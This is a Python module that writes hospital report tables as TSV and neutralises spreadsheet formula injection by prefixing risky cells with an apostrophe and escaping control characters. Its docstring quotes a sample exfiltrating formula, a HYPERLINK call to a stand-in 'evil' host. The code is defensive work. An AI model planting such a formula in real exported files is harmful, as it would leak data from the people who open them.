"""The one TSV writer of every table a person may open in a spreadsheet (rejects, QC drill-down, validation issues,
run summary): one cell convention, and formula injection neutralised.

Cells hold values from hospital exports, and these files go back to the hospitals, where they are opened in Excel
or LibreOffice. A cell such as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(...)`` would run there as a formula.
Rule (OWASP "CSV injection"): a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
leading apostrophe (``'=1+1``), which spreadsheets show as text; a plain number (``-5``, ``+1.5e3``) is left as it
is, since a spreadsheet reads it as a number, never a formula. Then backslash, tab, CR and LF are escaped as
``\\\\``, ``\\t``, ``\\r``, ``\\n``, so a value can never break a line or a column (:func:`unescape` reverses it).
The FHIR data is never changed: only these report files are.

Rows go through :mod:`csv` (tab-delimited, no quoting), where a cell that still held a tab or newline would raise
instead of silently shifting columns; cells already made by :func:`cell` are joined directly (:func:`to_bytes`).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from pathlib import Path

from .io_utils import write_private, write_text_atomic

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FIRST = frozenset(FORMULA_STARTS)
_NUMBER = re.compile(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?")
_ESCAPES = str.maketrans({"\\": "\\\\", "\t": "\\t", "\n": "\\n", "\r": "\\r"})
_SPECIAL = re.compile(r"[\\\t\n\r]")
_UNESCAPES = {"t": "\t", "n": "\n", "r": "\r", "\\": "\\"}
_ESCAPED = re.compile(r"\\(.)", re.DOTALL)


def neutralise(text: str) -> str:
    """``text`` with a leading apostrophe if a spreadsheet would read it as a formula."""
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def cell(value: object) -> str:
    """One TSV cell: neutralised, then escaped."""
    text = neutralise(str(value))
    return text.translate(_ESCAPES) if _SPECIAL.search(text) else text


def cells(values: Iterable[str]) -> list[str]:
    """A column of cells (:func:`cell` on each), touching only the few that need a change."""
    return [cell(v) if v[:1] in _FIRST or _SPECIAL.search(v) else v for v in values]


def unescape(text: str) -> str:
    """The value of an escaped cell (the apostrophe of a neutralised formula stays: it is what the file says)."""
    return _ESCAPED.sub(lambda m: _UNESCAPES.get(m.group(1), m.group(1)), text) if "\\" in text else text


def to_bytes(header: Sequence[str], rows: Iterable[Sequence[object]], *, ready: bool = False) -> bytes:
    """The whole table as UTF-8 bytes, a header line then one line per row, ``\\n``-terminated.

    ``ready``: every cell already went through :func:`cell` or :func:`cells` (the QC drill-down escapes each distinct
    value once), so it holds no tab, CR or LF and a plain join writes exactly what :mod:`csv` would, three times
    faster on a 20,000-record center's failures.
    """
    if ready:
        lines = ["\t".join(map(cell, header)), *map("\t".join, rows)]
        return ("\n".join(lines) + "\n").encode("utf-8")
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter="\t", quoting=csv.QUOTE_NONE, quotechar=None, lineterminator="\n")
    writer.writerow([cell(h) for h in header])
    writer.writerows([cell(c) for c in row] for row in rows)
    return buffer.getvalue().encode("utf-8")


def write_tsv(
    path: str | Path, header: Sequence[str], rows: Iterable[Sequence[object]], *, private: bool = True
) -> None:
    """Write a table atomically: 0600 when it holds patient data (``private``), else with the usual umask."""
    data = to_bytes(header, rows)
    if private:
        write_private(path, data)
    else:
        write_text_atomic(path, data.decode("utf-8"))
